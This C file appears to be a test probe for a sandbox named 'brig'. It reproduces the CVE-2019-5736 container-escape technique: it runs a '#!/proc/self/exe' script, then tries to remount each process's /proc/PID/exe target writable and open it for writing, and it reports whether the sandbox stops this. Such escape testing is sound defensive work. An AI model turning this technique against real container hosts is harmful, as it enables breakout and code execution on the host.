/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Trick: the program file of brig's own that runs inside, through /proc/PID/exe: open it
 * for writing, also after a #!/proc/self/exe made it run as a command, and make its mount
 * writable first (CVE-2019-5736 of runc and its kin).
 * Gain: brig's program on the host, run at the next start with the caller's rights.
 * Expect: chroot=stops nspawn=stops container=stops
 *
 * The program is executed from a read-only mount that is attached nowhere.
 */
#include "hostile.h"

#ifndef SYS_mount_setattr
#define SYS_mount_setattr 442
#endif

struct attr {
	uint64_t set, clr, propagation, userns;
};

static int tried;

static void overwrite(const char *path)
{
	struct attr writable = { .clr = 1 /* MOUNT_ATTR_RDONLY */ };
	char target[PATH_MAX];
	ssize_t n = readlink(path, target, sizeof(target) - 1);

	if (n <= 0)
		return;
	target[n] = '\0';
	if (!strstr(target, "brig-warder"))
		return;
	tried++;
	(void)mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL);
	(void)syscall(SYS_mount_setattr, AT_FDCWD, path, 0, &writable, sizeof(writable));
	if (open(path, O_WRONLY | O_CLOEXEC) >= 0 ||
		open(path, O_WRONLY | O_TRUNC | O_CLOEXEC) >= 0)
		escaped("%s, brig's warder, can be written", path);
}

/* A script whose interpreter is "the program that is executing this". */
static void run_script(void)
{
	char script[] = "/tmp/exe.XXXXXX";
	int fd = mkstemp(script);
	pid_t pid;

	if (fd < 0)
		return;
	(void)!write(fd, "#!/proc/self/exe\n", 17);
	(void)fchmod(fd, 0755);
	(void)close(fd);
	pid = fork();
	if (pid == 0) {
		(void)execl(script, script, (char *)NULL);
		_exit(1);
	}
	(void)waitpid(pid, NULL, 0);
}

int main(void)
{
	run_script();
	each_process("/exe", overwrite);
	stopped("%d processes show brig's warder, none for writing", tried);
}
